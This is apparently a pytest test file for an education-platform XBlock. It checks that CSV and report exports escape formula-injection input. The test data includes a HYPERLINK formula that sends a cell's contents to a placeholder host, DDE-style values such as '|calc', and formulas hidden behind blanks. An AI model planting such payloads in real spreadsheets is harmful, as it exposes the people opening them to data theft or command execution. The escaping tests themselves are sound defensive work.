"""Formula injection in what ends up in a spreadsheet: the staff CSV and the LMS's Problem
Responses report (``generate_report_data``, which the LMS writes as CSV without escaping).
One rule, ``csv_export.formula_safe``, for both: text starting with a formula character
— also after leading spaces, tabs or other blanks (" =1+1") — gets a leading apostrophe."""
from __future__ import annotations

import csv
import io
from types import SimpleNamespace

import pytest

from tests.integration import case_fixtures

HYPERLINK = "=HYPERLINK(\"http://example.invalid/?x=\"&A1,\"klik\")"
HOSTILE = [HYPERLINK, " =1+1", "  \t=1+1", "\u00a0=1+1", "\u200b@SUM(A1:A9)", " +cmd", "\t-2+3",
           "\n=1+1", "|calc", "%0A=1"]
HARMLESS = ["saya akan menolak", "2 / 4", "awaiting grading", "Rp1.500.000", "", " kata"]


def test_formula_safe_is_the_one_rule():
    from asn_xblocks.shell.csv_export import escape_cell, formula_safe

    for text in HOSTILE:
        assert formula_safe(text) == "'" + text, ascii(text)
        assert escape_cell(text) == "'" + text, ascii(text)
    for text in HARMLESS:
        assert formula_safe(text) == text and escape_cell(text) == text, ascii(text)
    assert escape_cell(-2) == "-2" and escape_cell(1.5) == "1.5"  # numbers stay numbers


def _finish(block, student: str, text: str) -> None:
    assert block.call("act", {"version": 0, "action": case_fixtures.STAGE1_BEST}, student)[0] == 200
    step = {"type": "submit_stage", "stage": "s2", "answers": {"r1": text, "q3": "a"}}
    status, answer = block.call("act", {"version": 1, "action": step}, student)
    assert status == 200, answer


@pytest.mark.parametrize("lead", [HYPERLINK, " =1+1", "\t=1+1"])
def test_the_lms_report_escapes_formula_leading_answers(make_block, lead):
    block = make_block(case_fixtures.case_xml(max_attempts=1).replace('max_words="20"',
                                                                      'max_words="200"'))
    text = f"{lead} saya akan menolak dan melapor"
    _finish(block, "ani", text)
    learner = block.xblock("ani")
    states = [SimpleNamespace(username="ani", state={"learner_state": learner.learner_state})]
    rows = list(block.xblock("staff").generate_report_data(iter(states)))
    answers = [row["Answer"] for _name, row in rows]
    assert "'" + text in answers, answers  # as typed, behind an apostrophe
    assert text not in answers
    for _name, row in rows:  # nothing left that a spreadsheet would evaluate
        for value in row.values():
            stripped = value.lstrip(" \t\u00a0\u200b")
            assert not stripped.startswith(("=", "+", "-", "@", "|", "%")), row


def test_the_csv_escapes_formulas_after_leading_blanks(make_block):
    from urllib.parse import quote

    block = make_block(case_fixtures.case_xml(max_attempts=1))
    names = [" =1+1", "\t@SUM(A1)"]  # learner names as the user service gives them
    for name in names:
        _finish(block, quote(name, safe=""), "saya akan menolak hadiah itu")
    body = block.download("staff_csv").content
    cells = [c for line in csv.reader(io.StringIO(body.decode("utf-8-sig"))) for c in line]
    for name in names:
        assert name not in cells and "'" + name in cells, (name, cells)
